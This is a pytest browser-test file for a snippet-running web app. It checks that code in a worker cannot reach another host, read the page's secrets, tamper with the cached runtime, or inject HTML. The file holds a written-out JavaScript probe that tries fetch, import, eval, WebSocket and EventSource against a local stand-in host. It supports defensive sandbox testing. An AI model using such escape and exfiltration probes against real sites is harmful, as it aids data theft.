"""Hostile code stays in its room: what runs in the worker reaches no other host, no storage of the site, no page."""

from __future__ import annotations

import functools
import hashlib
import re
import socketserver

import pytest
import zstandard
from playwright.sync_api import expect
from runsheet.bundle import STATIC
from runsheet.headless import serving

from tests.browser.conftest import app_server, asked_of, browsing
from tests.browser.hostile import CASES, END, FLOOD, FORGE, PRELUDE
from tests.browser.test_run import card, run, shown
from tests.conftest import Notes

pytestmark = pytest.mark.xdist_group("confined")

SECRET = "a-secret-of-the-page"


class Anybody(socketserver.BaseRequestHandler):
    """Notes that somebody came, whatever they say."""

    def handle(self):
        self.server.came.append(self.request.recv(100))


@pytest.fixture(scope="module")
def elsewhere():
    """Another host, as far as browsers care: its address, and who came."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Anybody)
    server.daemon_threads = True
    server.came = []
    with serving(server) as url:
        server.url = url
        yield server


@pytest.fixture(scope="module")
def our_app(elsewhere, tmp_path_factory):
    """Our site, with all snippets on a page."""
    notes = Notes(tmp_path_factory.mktemp("notes"))
    sources = {f"{name}.py": (PRELUDE + source).replace("ELSEWHERE", elsewhere.url) for name, source in CASES.items()}
    sources |= {"forge.py": FORGE, "end.py": END, "flood.py": FLOOD, "fine.py": "print('fine')"}
    notes.recorded(sources)
    return notes.app()


@pytest.fixture(scope="module")
def asked(our_app):
    """The paths that our site was asked for."""
    return asked_of(our_app)


@pytest.fixture(scope="module")
def page(browser, our_app, asked):
    """The page of all snippets, which keeps secrets in every storage."""
    with serving(app_server(our_app)) as url, browsing(browser, url, service_workers="block") as page:
        page.goto("/page/")
        page.evaluate(KEEP_SECRETS, SECRET)
        run(page, "fine.py")
        yield page


KEEP_SECRETS = """async (secret) => {
    localStorage.setItem("secret", secret);
    document.cookie = `secret=${secret}`;
    await (await caches.open("secret")).put("/secret", new Response(secret));
    await new Promise((resolve) => {
        const opening = indexedDB.open("secret");
        opening.onupgradeneeded = () => opening.result.createObjectStore("x").add(secret, "x");
        opening.onsuccess = resolve;
    });
}"""
# The digests of what the browser keeps of the runtime.
KEPT = """async () => {
    const kept = await caches.open("runtime");
    const digests = {};
    for (const { url } of await kept.keys()) {
        const bytes = await (await kept.match(url)).arrayBuffer();
        const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
        digests[url.split("/").at(-1)] = Array.from(digest, (byte) => byte.toString(16).padStart(2, "0")).join("");
    }
    return digests;
}"""


@functools.cache
def unpressed(file: str) -> str:
    """The digest of what a file of the bundle holds."""
    with zstandard.open(STATIC / "runtime" / file) as part:
        return hashlib.file_digest(part, "sha256").hexdigest()


@pytest.mark.parametrize("name", CASES)
def test_there_is_no_way_out(page, elsewhere, asked, name):
    start = len(asked)
    figure = run(page, f"{name}.py")
    printed = shown(figure)
    assert re.search("refused|looked", printed)
    assert "Traceback" not in printed
    assert "OPEN" not in printed
    assert SECRET not in printed
    assert elsewhere.came == []
    part = re.compile(r"/snippets/.*|/static/(dist|runtime)/[\w.-]+-[0-9A-Z]{8}\.\w+")
    assert [path for path in asked[start:] if not part.fullmatch(path)] == []
    # The next start trusts what is kept.
    kept = page.evaluate(KEPT)
    assert len(kept) >= 3
    assert {file: digest for file, digest in kept.items() if digest != unpressed(file)} == {}


@pytest.mark.parametrize("name", ["forge.py", "end.py"])
def test_forged_messages_show_no_html_and_break_nothing(page, name):
    figure = card(page, name)
    figure.get_by_role("button", name="Run").click()
    expect(figure.get_by_role("button", name="Run")).to_be_visible(timeout=60_000)
    page.wait_for_timeout(200)
    assert page.locator("#forged").count() == 0
    assert shown(run(page, "fine.py")) == "fine"


def test_a_flood_of_messages_leaves_the_page_usable(page):
    figure = card(page, "flood.py")
    figure.get_by_role("button", name="Run").click()
    expect(figure.get_by_role("button", name="Run")).to_be_visible(timeout=60_000)
    assert len(figure.locator(".output").inner_text()) < 1_000_000
    assert shown(run(page, "fine.py")) == "fine"


# What a worker of a blob may do, that a page makes: its first message tells.
TRY_IN_A_WORKER = """(elsewhere) => new Promise((resolve) => {
    const source = `
        const tried = {};
        const attempt = async (name, work) => (tried[name] = await work().then(() => "open", () => "refused"));
        const heard = (name, thing) => attempt(name, () => new Promise((open, refused) => {
            thing.onopen = thing.onmessage = open;
            thing.onerror = refused;
        }));
        const evaluate = async () => (0, eval)("1");
        const script = URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }));
        await attempt("fetch", () => fetch("${elsewhere}/fetch", { mode: "no-cors" }));
        await attempt("import", () => import("${elsewhere}/import.js"));
        await attempt("blob", () => import(script));
        await attempt("eval", evaluate);
        await heard("WebSocket", new WebSocket("${elsewhere}/socket".replace("http", "ws")));
        await heard("EventSource", new EventSource("${elsewhere}/events"));
        postMessage(tried);`;
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), { type: "module" });
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = ({ message }) => resolve(message);
})"""


@pytest.mark.parametrize("site", ["frozen", "live"])
def test_a_worker_of_a_blob_has_the_pages_policy_even_where_the_host_sends_none(request, new_page, elsewhere, site):
    page = new_page(request.getfixturevalue(site))
    policy = page.goto("/").headers.get("content-security-policy")
    assert bool(policy) == (site == "live")
    tried = page.evaluate(TRY_IN_A_WORKER, elsewhere.url)
    assert set(tried) == {"fetch", "import", "blob", "eval", "WebSocket", "EventSource"}
    assert set(tried.values()) == {"refused"}
    assert elsewhere.came == []


def test_elsewhere_hears_who_comes(live, new_page, elsewhere):
    """Else nobody could be sure that nobody came: the same without the page's policy, after all the others."""
    assert elsewhere.came == []
    page = new_page(live, bypass_csp=True)
    page.goto("/")
    page.evaluate(TRY_IN_A_WORKER, elsewhere.url)
    asked_for = {heard.split()[1].decode() for heard in elsewhere.came}
    assert asked_for == {"/fetch", "/import.js", "/socket", "/events"}
